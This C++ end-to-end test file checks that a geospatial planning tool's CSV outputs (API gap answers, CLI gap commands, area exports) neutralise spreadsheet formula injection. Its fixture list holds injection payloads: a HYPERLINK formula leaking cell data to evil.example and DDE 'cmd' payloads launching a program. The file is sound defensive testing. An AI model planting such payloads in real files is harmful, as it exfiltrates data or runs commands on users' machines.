// Formula injection through every CSV the product writes: area names and codes such as
// =HYPERLINK(…) and +cmd|… (an area file is anyone's to write) reach the gap answer's CSV over
// the API and from `tsunagi gap … --format csv`, and `tsunagi export --layer areas --format csv`.
// Each must come out as text a spreadsheet shows, never as a formula it runs.
#include <gtest/gtest.h>

#include <chrono>
#include <nlohmann/json.hpp>
#include <thread>

#include "e2e/server_town.hpp"
#include "geo/core/csv.hpp"
#include "geo/store/store.hpp"

namespace tsunagi::test {
namespace {

using nlohmann::json;

const std::vector<std::string> kFormulas = {
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"詳しくはこちら\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTAB=1+1",
};

/// The cells of a CSV text (geo::csv::Reader: RFC 4180, a BOM dropped).
std::vector<std::vector<std::string>> parse_csv(std::string_view text) {
  std::vector<std::vector<std::string>> rows;
  for (auto& r : geo::csv::read_all(text)) rows.push_back(std::move(r.cells));
  return rows;
}

/// Every cell a spreadsheet would run as a formula (starts with = + - @ TAB CR and is not a
/// plain number), and how many cells hold one of kFormulas behind the ' guard.
struct Scan {
  std::vector<std::string> formulas;
  std::size_t guarded = 0;
};

Scan scan(const std::string& csv) {
  Scan s;
  for (const auto& row : parse_csv(csv)) {
    for (const auto& c : row) {
      if (c.empty()) continue;
      if (std::string_view("=+-@\t\r").find(c.front()) != std::string_view::npos) {
        char* end = nullptr;
        (void)std::strtod(c.c_str(), &end);
        if (end != c.c_str() + c.size()) s.formulas.push_back(c);
      }
      for (const auto& f : kFormulas) {
        if (c == "'" + f) ++s.guarded;
      }
    }
  }
  return s;
}

class CsvInjection : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    dir_ = new TempDir();
    town_ = new Town();
    town_->db = *dir_ / "demo.db";
    const auto demo = run_tsunagi({"demo", "--db", town_->db.string()});
    ASSERT_EQ(demo.exit_code, 0) << demo.err;
    {
      // The 町丁 as an area file from anywhere could name them.
      auto store = geo::Store::open(town_->db, geo::Store::Mode::open_existing);
      std::size_t i = 0;
      for (auto a : store.areas(geo::AreaKind::chome)) {
        a.name = kFormulas[i % kFormulas.size()];
        if (i % kFormulas.size() == 1) a.code = kFormulas[0];
        store.put_area(a);
        ++i;
      }
      ASSERT_GT(i, kFormulas.size());
    }
    add_users(*town_, {"planner"});
    server_ = new ServerProcess({"--db", town_->db.string(), "--port", "0"});
  }
  static void TearDownTestSuite() {
    EXPECT_EQ(server_->stop(SIGTERM), 0);
    delete server_;
    delete town_;
    delete dir_;
  }
  static HttpResult call(const std::string& method, const std::string& target,
                         const std::string& body = "") {
    HttpClient c(server_->host(), server_->port());
    auto h = bearer(*town_, "planner");
    if (!body.empty()) h.emplace_back("Content-Type", "application/json");
    return c.request(method, target, h, body);
  }

  static TempDir* dir_;
  static Town* town_;
  static ServerProcess* server_;
};
TempDir* CsvInjection::dir_ = nullptr;
Town* CsvInjection::town_ = nullptr;
ServerProcess* CsvInjection::server_ = nullptr;

TEST_F(CsvInjection, TheGapAnswerCsvOfTheApiShowsFormulasAsText) {
  const json request = {{"analysis", "coverage"},
                        {"kinds", {"kayoi_no_ba"}},
                        {"target", "aged_75"},
                        {"max_walk_min", 15}};
  const auto posted = call("POST", "/api/gap/jobs", request.dump());
  ASSERT_EQ(posted.status, 202) << posted.body;
  const std::string id = json::parse(posted.body)["id"];
  std::string status;
  for (int i = 0; i < 600 && status != "done" && status != "failed"; ++i) {
    status = json::parse(call("GET", "/api/gap/jobs/" + id).body)["status"];
    if (status != "done") std::this_thread::sleep_for(std::chrono::milliseconds(50));
  }
  ASSERT_EQ(status, "done");
  const auto csv = call("GET", "/api/gap/jobs/" + id + "?format=csv");
  ASSERT_EQ(csv.status, 200);
  const Scan s = scan(csv.body);
  EXPECT_TRUE(s.formulas.empty()) << s.formulas.front();
  EXPECT_GE(s.guarded, kFormulas.size()) << "the names are there, as text";
}

TEST_F(CsvInjection, TheGapCommandsCsvShowsFormulasAsText) {
  const auto r = run_tsunagi(
      {"gap", "rank", "--db", town_->db.string(), "--kinds", "kayoi_no_ba", "--format", "csv"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  const Scan s = scan(r.out);
  EXPECT_TRUE(s.formulas.empty()) << s.formulas.front();
  EXPECT_GE(s.guarded, kFormulas.size());
}

TEST_F(CsvInjection, TheGapAccessCsvShowsFormulaIdsAsText) {
  TempDir dir;
  write_file(dir / "costs.csv", "origin,dest,cost\n\"=1+2\",s1,5\n");
  write_file(dir / "demand.csv", "id,value\n\"=1+2\",10\n");
  write_file(dir / "supply.csv", "id,value\ns1,1\n");
  const auto r =
      run_tsunagi({"gap", "access", "--method", "2sfca", "--max-cost", "10", "--costs",
                   (dir / "costs.csv").string(), "--demand", (dir / "demand.csv").string(),
                   "--supply", (dir / "supply.csv").string(), "--format", "csv"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_NE(r.out.find("\n'=1+2,"), std::string::npos) << r.out;
  EXPECT_TRUE(scan(r.out).formulas.empty()) << r.out;
}

TEST_F(CsvInjection, TheAreasExportCsvShowsFormulasAsText) {
  TempDir dir;
  const auto out = dir / "areas.csv";
  const auto r = run_tsunagi({"export", "--db", town_->db.string(), "--layer", "areas", "--format",
                              "csv", "--out", out.string(), "--audience", "internal"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  const Scan s = scan(read_file(out));
  EXPECT_TRUE(s.formulas.empty()) << s.formulas.front();
  EXPECT_GE(s.guarded, kFormulas.size());
}

}  // namespace
}  // namespace tsunagi::test
